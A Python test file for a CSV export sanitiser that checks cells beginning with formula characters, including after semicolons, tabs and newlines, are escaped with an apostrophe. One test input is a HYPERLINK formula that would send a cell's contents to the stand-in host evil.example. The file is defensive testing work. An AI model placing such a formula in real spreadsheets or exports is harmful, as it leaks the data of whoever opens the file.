"""An export runs nothing in the spreadsheet that opens it, wherever that lets cells begin."""

import csv

import pytest

from core.spreadsheets import csv_lines, safe_cell


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (None, ""),
        (7, "7"),
        ("Nightly jobs; the old ones", "Nightly jobs; the old ones"),
        ("a=b, c+d, e-f, g@h", "a=b, c+d, e-f, g@h"),
        ("=HYPERLINK(1)", "'=HYPERLINK(1)"),
        (" =HYPERLINK(1)", " '=HYPERLINK(1)"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(1)", "'@SUM(1)"),
        ("\t=1", "'\t'=1"),
        ("\r=1", "'\r'=1"),
        # Where files are taken apart at semicolons.
        ("Jobs;=HYPERLINK(1)", "Jobs;'=HYPERLINK(1)"),
        ("Jobs; =1;+1", "Jobs; '=1;'+1"),
        ("Jobs\t@SUM(1)", "Jobs\t'@SUM(1)"),
        ("Jobs\n=1", "Jobs\n'=1"),
    ],
)
def test_no_cell_is_a_formula(value: object, cell: str) -> None:
    assert safe_cell(value) == cell


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_whatever_a_file_is_taken_apart_at(delimiter: str) -> None:
    label = 'Jobs;=HYPERLINK("http://evil.example/?"&A1)\t=1'
    for row in csv.reader(csv_lines(["id", "label"], [["1", label]]), delimiter=delimiter):
        assert not any(cell.strip().startswith(("=", "+", "-", "@")) for cell in row)
